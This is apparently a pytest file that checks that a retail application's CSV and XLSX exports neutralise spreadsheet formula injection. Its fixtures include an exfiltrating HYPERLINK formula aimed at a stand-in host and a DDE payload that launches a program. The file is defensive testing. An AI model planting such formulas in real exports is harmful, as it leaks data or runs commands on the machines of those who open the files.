"""Spreadsheet and CSV exports never carry a live formula (issue 11, item 6): a cell starting with `=`, `+`, `-`,
`@`, a tab or a CR is written as text; numbers stay numbers. Every export goes through vipcore.exports."""

from __future__ import annotations

import csv
import io
from datetime import date
from types import SimpleNamespace

from credit.domain.aging import OpenItem, aging, to_csv, to_xlsx
from loyalty.adapters.reports import liability_csv
from loyalty.domain.sv_report import to_csv as sv_csv
from members.service.importer import rejects_csv
from vipcore.exports import csv_text, safe_cell

EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_safe_cell_neutralises_formula_starts_and_keeps_numbers() -> None:
    for v in EVIL:
        assert safe_cell(v) == "'" + v
    for v in (-5, 0, 12.5, None, True, "plain", "李四", "1-2", "a=b"):
        assert safe_cell(v) == v and type(safe_cell(v)) is type(v)


def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula() -> None:
    text = csv_text(["name", "n"], [['x\r=1+1', 3], ['y\n@A1', 4], ['z,"q"', -5]])
    assert _cells(text) == [["name", "n"], ["x\r=1+1", "3"], ["y\n@A1", "4"], ['z,"q"', "-5"]]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_c07_aging_csv_and_xlsx_keep_a_customer_name_as_text() -> None:
    day = date(2026, 11, 30)
    items = [OpenItem(name, "S1", "XA-001", "029", date(2026, 10, 1), 12_345) for name in EVIL]
    rows = aging(items, day, "customer")
    body = _cells(to_csv(rows, "customer"))
    assert sorted(r[0] for r in body[1:]) == sorted("'" + v for v in EVIL)
    assert all(r[-1] == "12345" for r in body[1:])

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx({"customer": rows}, day)))
    ws = wb["customer"]
    names = [ws.cell(row=i, column=1).value for i in range(3, 3 + len(EVIL))]
    assert sorted(names) == sorted("'" + v.replace("\r", "\n") for v in EVIL)  # XML keeps a CR as LF
    assert all(ws.cell(row=i, column=1).data_type == "s" for i in range(3, 3 + len(EVIL)))  # text, no formula
    totals = [ws.cell(row=i, column=7).value for i in range(3, 3 + len(EVIL))]
    assert totals == [12_345] * len(EVIL)  # numbers stay numbers
    assert all(ws.cell(row=i, column=7).data_type == "n" for i in range(3, 3 + len(EVIL)))


def test_loyalty_reports_csv_neutralise_keys() -> None:
    text = liability_csv({"store": {"=1+1": {"points": -10, "value": 5}}, "region": {}, "program": {}})
    assert _cells(text)[1] == ["store", "'=1+1", "-10", "5"]  # a negative number stays a number
    rep = {"programs": {"@evil": {"opening": 1, "top_ups": 2, "bonus": 0, "imported": 0, "spend": -3, "refunds": 0,
                                  "closing": 0, "reconciled": True}},
           "outstanding": {"program": {"@evil": 7}, "store": {"+cmd": 1}, "region": {}}}
    cells = _cells(sv_csv(rep))
    assert cells[1][:2] == ["program", "'@evil"] and cells[1][6] == "-3"
    assert cells[2][:2] == ["store", "'+cmd"]


def test_m19_rejected_rows_report_neutralises_the_uploaded_text() -> None:
    rows = [SimpleNamespace(row_no=2, reasons="M-02: mobile",
                            row={"full_name": '=cmd|" /C calc"!A0', "mobile": "-1380013"})]
    assert _cells(rejects_csv(rows))[1] == ["2", "M-02: mobile", "'=cmd|\" /C calc\"!A0", "'-1380013"]
